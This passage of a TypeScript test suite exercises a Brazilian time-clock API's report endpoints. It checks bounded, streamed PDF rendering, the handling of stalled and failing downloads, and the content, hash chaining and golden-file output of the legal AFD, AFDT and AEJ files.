    });
    expect(added.statusCode).toBe(201);

    const response = await get(
      key,
      `/v1/reports/period?from=2026-11-16&to=2026-11-22&employeeId=${id}&format=pdf`,
    );
    expect(response.statusCode).toBe(200);
    const text = await pdfText(response.rawPayload);
    expect(withoutSpaces(text)).toContain(
      withoutSpaces(
        'Horário contratual: 16/11/2026 a 17/11/2026: seg 08:00–12:00, 13:00–17:00; ter 08:00–12:00, 13:00–17:00; ' +
          'qua 08:00–12:00, 13:00–17:00; qui 08:00–12:00, 13:00–17:00; sex 08:00–12:00, 13:00–17:00 ' +
          '18/11/2026 a 22/11/2026: ciclo de 2 dias desde 18/11/2026: dia 1 07:00–19:00; dia 2 folga',
      ),
    );

    // A period the office week governs alone names it alone, with the period's dates.
    const before = await pdfText(
      (await get(key, `/v1/reports/period?from=2026-11-09&to=2026-11-13&employeeId=${id}&format=pdf`))
        .rawPayload,
    );
    expect(before).toContain('Horário contratual: 09/11/2026 a 13/11/2026: seg 08:00–12:00');
    expect(before).not.toContain('ciclo');
  });
});

describe('PDF rendering: off the event loop, bounded, streamed', () => {
  // One slot: a second report waits in line, a third is refused. Also on a real socket, at `address`.
  let bounded: TestApp;
  let address: URL;
  beforeAll(async () => {
    bounded = await createTestApp(
      {
        PONTUAL_RATE_LIMIT_PER_MINUTE: '100000',
        PONTUAL_REPORT_CONCURRENCY: '1',
        PONTUAL_REPORT_STALL_SECONDS: '1',
      },
      t.storage,
    );
    address = new URL(await bounded.app.listen({ port: 0, host: '127.0.0.1' }));
  });
  afterAll(() => bounded.close());

  /** A tenant with `employees` on office hours, marks every day of November 2026; its key. */
  async function bigTenant(app: TestApp, employees: number) {
    const tenant = await app.seedTenant({ timezone: 'America/Sao_Paulo' });
    const { key } = await tenant.key();
    const scope = { tenantId: tenant.tenantId, environment: 'live' as const };
    await seedMonth(app.app.deps.database.db, scope, employees, '2026-11', () => nextCpf());
    return key;
  }
  /** A year's espelho: one line per employee and day, most of them absences. */
  const YEAR = '/v1/reports/period?from=2025-12-01&to=2026-11-30&format=pdf';
  /** A PDF that a reader opens: its cross-reference table where the trailer says, every page in its page tree. */
  const expectWholePdf = (pdf: Buffer, employees: number) => {
    const text = pdf.toString('latin1');
    expect(text.slice(0, 5)).toBe('%PDF-');
    const xref = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1]);
    expect(text.slice(xref, xref + 4)).toBe('xref');
    const pages = text.match(/\/Type \/Page\b/g)?.length ?? 0;
    expect(text).toMatch(new RegExp(`/Count ${pages}\\b`));
    // Each employee's year takes several pages.
    expect(pages).toBeGreaterThan(employees * 3);
  };

  it('/healthz answers within a second while big PDFs render', async () => {
    const key = await bigTenant(t, 50);
    await t.app.ready(); // route schemas compile at ready, which the first request otherwise waits for
    let rendering = true;
    // As many as there are slots, each rendering in a thread of its own: none waits in line, whose 10 s bound
    // a loaded machine can pass (the line is the next test's).
    const slots = t.config.reportConcurrency;
    const pdfs = Promise.all(Array.from({ length: slots }, () => get(key, YEAR))).finally(() => {
      rendering = false;
    });
    // A probe every 50 ms, each timed from when it was due: a blocked event loop delays the probe's timer too.
    const latencies: number[] = [];
    while (rendering) {
      const due = performance.now() + 50;
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect((await t.request({ method: 'GET', url: '/healthz' })).statusCode).toBe(200);
      latencies.push(performance.now() - due);
    }
    for (const response of await pdfs) {
      expect(response.statusCode).toBe(200);
      expectWholePdf(response.rawPayload, 50);
    }
    expect(Math.max(...latencies)).toBeLessThan(1000);
    expect(latencies.length).toBeGreaterThan(5);
  }, 120_000);

  it('beyond the bound and its line, a report is 503 with Retry-After; those let in are whole', async () => {
    const key = await bigTenant(bounded, 30);
    const running = bounded.request({ method: 'GET', url: YEAR, key });
    await new Promise((resolve) => setTimeout(resolve, 300));
    const waiting = bounded.request({ method: 'GET', url: YEAR, key });
    await new Promise((resolve) => setTimeout(resolve, 300));
    // The same bound holds every report: a PDF, a CSV, a legal file.
    for (const url of [YEAR, YEAR.replace('pdf', 'csv'), '/v1/reports/afd?from=2026-11-01&to=2026-11-30']) {
      const refused = await bounded.request({ method: 'GET', url, key });
      expect(refused.statusCode, url).toBe(503);
      expect(problem(refused).code).toBe('service_unavailable');
      expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
    }
    for (const response of [await running, await waiting]) {
      expect(response.statusCode).toBe(200);
      expectWholePdf(response.rawPayload, 30);
    }
    // The slot came back: the next one is served.
    expect((await bounded.request({ method: 'GET', url: YEAR, key })).statusCode).toBe(200);
  }, 120_000);

  it('a client that stops reading is dropped, and its slot goes to the next in line', async () => {
    const key = await bigTenant(bounded, 100);
    // Asks for a year's JSON (about 11 MB) and reads nothing: the download stops once the socket buffers
    // (about 4 MB here) are full.
    const stalled = net.connect(Number(address.port), address.hostname);
    stalled.pause();
    stalled.write(
      `GET ${YEAR.replace('pdf', 'json')} HTTP/1.1\r\nHost: ${address.host}\r\nx-api-key: ${key}\r\n\r\n`,
    );
    try {
      await new Promise((resolve) => setTimeout(resolve, 500));
      // Waits in line behind it, and gets its slot once it has taken nothing for a second.
      const started = performance.now();
      const next = await bounded.request({ method: 'GET', url: YEAR.replace('pdf', 'csv'), key });
      expect(next.statusCode).toBe(200);
      expect(performance.now() - started).toBeLessThan(8000);
    } finally {
      stalled.destroy();
    }
  }, 60_000);

  it('a rendering that fails part-way aborts the connection: never a short file that ends cleanly', async () => {
    const tenant = await bounded.seedTenant();
    const { key } = await tenant.key();
    const scope = { tenantId: tenant.tenantId, environment: 'live' as const };
    const { db } = bounded.app.deps.database;
    await seedMonth(db, scope, 30, '2026-11', () => nextCpf());
    // The last employee's stored schedule (a schedule version, which the reports read; seedMonth writes none)
    // is unreadable: the report fails after the first batch of employees.
    const employees = await db
      .selectFrom('employees')
      .select('id')
      .where('tenantId', '=', tenant.tenantId)
      .orderBy('id')
      .execute();
    const [first, last] = [employees[0]!, employees.at(-1)!];
    await db
      .insertInto('scheduleVersions')
      .values({
        id: newId(),
        ...scope,
        employeeId: last.id,
        effectiveFrom: '2026-11-01',
        schedule: '{not json',
        createdAt: Date.now(),
      })
      .execute();
    const response = await fetch(
      `${address.origin}/v1/reports/period?from=2026-11-01&to=2026-11-30&format=pdf`,
      {
        headers: { 'x-api-key': key },
      },
    );
    expect(response.status).toBe(200);
    await expect(response.arrayBuffer()).rejects.toThrow();
    // The failed rendering gave its slot back.
    const next = await bounded.request({
      method: 'GET',
      url: `/v1/reports/period?from=2026-11-16&to=2026-11-20&employeeId=${first.id}&format=pdf`,
      key,
    });
    expect(next.statusCode).toBe(200);
  });
});

/**
 * Freezes `Date` (only `Date`: timers still run) so what the files record — when each mark and employee record
 * was written, when the file was generated — is the same in every run. `at` sets São Paulo local time.
 */
function freezeClock() {
  vi.useFakeTimers({ toFake: ['Date'] });
  return (local: string) => vi.setSystemTime(new Date(`${local}:00-03:00`));
}

describe('GET /v1/reports/afd', () => {
  afterEach(() => vi.useRealTimers());

  it('200 with a file longer than one page of its read: every record of both tables once, in NSR order, counted', async () => {
    const tenant = await t.seedTenant({ timezone: 'America/Sao_Paulo' });
    const { key } = await tenant.key();
    const scope = { tenantId: tenant.tenantId, environment: 'live' as const };
    const db = t.app.deps.database.db;
    // This month on the REP's clock, so that changes made now fall in the period.
    const firstDay = DateTime.now().setZone(tenant.timezone).startOf('month');
    const month = firstDay.toFormat('yyyy-MM');
    // 17 employees' type-5 records, then 2,108 marks: more than twice the lines the export reads per query.
    const marks = await seedMonth(db, scope, 17, month, () => nextCpf());
    // Three changes now: type-5 records after the marks, from the other table, merged into the last page.
    const changed = await db
      .selectFrom('employees')
      .select('id')
      .where('tenantId', '=', tenant.tenantId)
      .limit(3)
      .execute();
    for (const { id } of changed) {
      const response = await t.request({
        method: 'PATCH',
        url: `/v1/employees/${id}`,
        key,
        payload: { name: `Renomeado ${id.slice(-6)}` },
      });
      expect(response.statusCode).toBe(200);
    }
    const records = parseAfd(
      (
        await get(key, `/v1/reports/afd?from=${month}-01&to=${firstDay.endOf('month').toISODate()}`)
      ).rawPayload.toString('latin1'),
    );
    const body = records.slice(1, -1);
    expect(body.map((r) => r.type).join('')).toBe('5'.repeat(17) + '7'.repeat(marks) + '555');
    expect(body.map((r) => Number(r.fields.nsr))).toEqual(body.map((_, i) => i + 1));
    expect(records.at(-1)!.fields).toMatchObject({
      type5: '000000020',
      type7: String(marks).padStart(9, '0'),
    });
  });

  it('a mark committed while the file is being read stays out of it: the period is cut when the download starts', async () => {
    const tenant = await t.seedTenant({ timezone: 'America/Sao_Paulo' });
    const { key } = await tenant.key();
    const clockIn = async (employeeId: string) =>
      (await t.request({ method: 'POST', url: '/v1/time-entries', key, payload: { employeeId } })).json<{
        nsr: number;
      }>();
    const employee = (
      await t.request({ method: 'POST', url: '/v1/employees', key, payload: { name: 'Ana', cpf: nextCpf() } })
    ).json<{ id: string }>();
    const before = await clockIn(employee.id);
    const today = DateTime.now().setZone(tenant.timezone).toISODate()!;
    const { db } = t.app.deps.database;
    const scope = { tenantId: tenant.tenantId, environment: 'live' as const };
    const context = await prepareReport(db, { scope, from: today, to: today });
    const file = afd(
      db,
      context,
      { layoutVersion: t.config.legalFiles.afdLayoutVersion },
      requireLegalIdentity('AFD', context.tenant, t.config.legalFiles.developer),
    );
    let text = (await file.next()).value as string;
    const during = await clockIn(employee.id);
    for await (const chunk of file) text += chunk;
    expect(during.nsr).toBe(before.nsr + 1);
    const marks = parseAfd(text).filter((r) => r.type === '7');
    expect(marks.map((r) => Number(r.fields.nsr))).toEqual([before.nsr]);
    expect(parseAfd(text).at(-1)!.fields.type7).toBe('000000001');
  });

  it('200 writes the REP-P AFD of the known week: header, employee records, chained marks, trailer, signature', async () => {
    const at = freezeClock();
    const { key } = await knownWeek({ at });
    at('2026-11-21T09:30');
    const response = await get(key, '/v1/reports/afd?from=2026-11-16&to=2026-11-20');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/plain; charset=ISO-8859-1');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="AFD${SEEDED_REP_NUMBER}12345678000195REP_P.txt"`,
    );
    const records = parseAfd(response.rawPayload.toString('latin1'));
    expect(records.map((r) => r.type).join('')).toBe('155' + '7'.repeat(22) + '9');
    expect(records[0]!.fields).toMatchObject({
      nsr: '000000000',
      documentType: '1',
      document: '12345678000195',
      cno: '',
      inpi: SEEDED_REP_NUMBER,
      firstDate: '2026-11-16',
      lastDate: '2026-11-20',
      generatedAt: '2026-11-21T09:30:00-0300',
      layoutVersion: '003',
      developerDocumentType: '1',
      developerDocument: '93487056000101',
      model: '',
    });
    expect(records.filter((r) => r.type === '1' || r.type === '5').every((r) => r.crcValid)).toBe(true);
    const body = records.slice(1, -1);
    expect(body.map((r) => Number(r.fields.nsr))).toEqual(Array.from({ length: 24 }, (_, i) => i + 1));
    expect(body.slice(0, 2).map((r) => r.fields)).toEqual([
      {
        nsr: '000000001',
        type: '5',
        writtenAt: '2026-11-16T07:00:00-0300',
        operation: 'I',
        cpf: '52998224725',
        name: 'Ana Conceição',
        other: '',
        responsibleCpf: '',
        crc: expect.stringMatching(/^[0-9A-F]{4}$/),
      },
      expect.objectContaining({ nsr: '000000002', operation: 'I', cpf: '02973937078', name: 'Bruno Noite' }),
    ]);
    const marks = body.slice(2);
    expect(marks[0]!.fields).toEqual({
      nsr: '000000003',
      type: '7',
      markedAt: '2026-11-16T08:00:00-0300',
      cpf: '52998224725',
      writtenAt: '2026-11-16T08:00:00-0300',
      collector: '05',
      offline: '0',
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    // The disregarded duplicate stays (the AFD holds what the REP recorded); the included mark is not a REP record.
    const times = marks.map((r) => r.fields.markedAt!.slice(0, 16));
    expect(times).toContain('2026-11-18T08:01');
    expect(times).not.toContain('2026-11-17T17:00');
    expect(marks.filter((r) => r.fields.cpf === '02973937078').map((r) => r.fields.markedAt)).toEqual([
      '2026-11-16T22:00:00-0300',
      '2026-11-17T05:00:00-0300',
    ]);
    // Anyone holding the file can check the chain: each hash covers the record and the one before it.
    let previous = '';
    for (const r of marks) {
      expect(r.fields.hash).toBe(
        createHash('sha256')
          .update(Buffer.from(r.line.slice(0, 73) + previous, 'latin1'))
          .digest('hex'),
      );
      previous = r.fields.hash!;
    }
    expect(records.at(-1)!.fields).toEqual({
      nsr: '999999999',
      type2: '000000000',
      type3: '000000000',
      type4: '000000000',
      type5: '000000002',
      type6: '000000000',
      type7: '000000022',
      type: '9',
    });
    // The API's nsr and hash are the AFD's.
    const entries = await get(key, '/v1/time-entries?from=2026-11-16&to=2026-11-16&limit=5');
    expect(entries.json()[0]).toMatchObject({ nsr: 3, occurredAt: '2026-11-16T11:00:00.000Z' });
  });

  it('a day of the period holds its own records, chained to the day before; the layout version is configurable', async () => {
    const at = freezeClock();
    const { key } = await knownWeek({ at });
    const whole = parseAfd(
      (await get(key, '/v1/reports/afd?from=2026-11-16&to=2026-11-20')).rawPayload.toString('latin1'),
    );
    const day = parseAfd(
      (await get(key, '/v1/reports/afd?from=2026-11-17&to=2026-11-17')).rawPayload.toString('latin1'),
    );
    const expected = whole.filter((r) => r.type === '7' && r.fields.markedAt!.startsWith('2026-11-17'));
    expect(day.slice(1, -1).map((r) => r.line)).toEqual(expected.map((r) => r.line));
    expect(expected.map((r) => r.fields.markedAt!.slice(11, 16))).toEqual([
      '05:00',
      '08:00',
      '12:00',
      '13:00',
    ]);
    expect(day.at(-1)!.fields).toMatchObject({ type5: '000000000', type7: '000000004' });

    const other = await createTestApp({ PONTUAL_AFD_LAYOUT_VERSION: '004' }, t.storage);
    try {
      const tenant = await other.seedTenant();
      const { key: otherKey } = await tenant.key();
      const file = await other.request({
        method: 'GET',
        url: '/v1/reports/afd?from=2026-11-16&to=2026-11-20',
        key: otherKey,
      });
      expect(parseAfd(file.rawPayload.toString('latin1'))[0]!.fields.layoutVersion).toBe('004');
    } finally {
      await other.close();
    }
  });

  it('an employee deactivated, renamed and reactivated leaves E, A and I records in order', async () => {
    const at = freezeClock();
    at('2026-11-02T09:00');
    const tenant = await t.seedTenant();
    const { key } = await tenant.key();
    const employee = (
      await t.request({
        method: 'POST',
        url: '/v1/employees',
        key,
        payload: { name: 'Carla', cpf: '11144477735' },
      })
    ).json();
    const patch = async (local: string, payload: object) => {
      at(local);
      const response = await t.request({
        method: 'PATCH',
        url: `/v1/employees/${employee.id}`,
        key,
        payload,
      });
      expect(response.statusCode).toBe(200);
    };
    await patch('2026-11-03T09:00', { name: 'Carla Dias' });
    await patch('2026-11-04T09:00', { jobTitle: 'Caixa' });
    await patch('2026-11-05T09:00', { active: false });
    await patch('2026-11-06T09:00', { name: 'Carla D.' });
    await patch('2026-11-07T09:00', { active: true });
    const records = parseAfd(
      (await get(key, '/v1/reports/afd?from=2026-11-01&to=2026-11-30')).rawPayload.toString('latin1'),
    );
    expect(
      records
        .filter((r) => r.type === '5')
        .map((r) => [r.fields.nsr, r.fields.writtenAt!.slice(0, 10), r.fields.operation, r.fields.name]),
    ).toEqual([
      ['000000001', '2026-11-02', 'I', 'Carla'],
      ['000000002', '2026-11-03', 'A', 'Carla Dias'],
      ['000000003', '2026-11-05', 'E', 'Carla Dias'],
      ['000000004', '2026-11-07', 'I', 'Carla D.'],
    ]);
  });

  it("409 without the company's CNPJ/CPF; another tenant's or environment's records never appear", async () => {
    const undocumented = await t.seedTenant({ document: null });
    const { key: undocumentedKey } = await undocumented.key();
    expect((await get(undocumentedKey, '/v1/reports/afd?from=2026-11-16&to=2026-11-20')).statusCode).toBe(
      409,
    );
    const at = freezeClock();
    const { tenant } = await knownWeek({ at });
    const { key: testKey } = await tenant.key({ environment: 'test' });
    const stranger = await (await t.seedTenant()).key();
    for (const key of [testKey, stranger.key]) {
      const records = parseAfd(
        (await get(key, '/v1/reports/afd?from=2026-11-16&to=2026-11-20')).rawPayload.toString('latin1'),
      );
      expect(records.map((r) => r.type)).toEqual(['1', '9']);
    }
  });
});

describe('golden files of the known week', () => {
  afterEach(() => vi.useRealTimers());

  it('AFDT, AEJ and AFD come out byte for byte as checked in', async () => {
    const at = freezeClock();
    const { key } = await knownWeek({ at, name: 'Padaria Conceição Ltda' });
    at('2026-11-21T09:30');
    for (const [file, url] of [
      ['known-week.afdt.txt', '/v1/reports/afdt'],
      ['known-week.aej.txt', '/v1/reports/aej'],
      ['known-week.afd.txt', '/v1/reports/afd'],
    ] as const) {
      const response = await get(key, `${url}?from=2026-11-16&to=2026-11-20`);
      expect(response.statusCode).toBe(200);
      expectGolden(file, response.rawPayload);
    }
  });
});
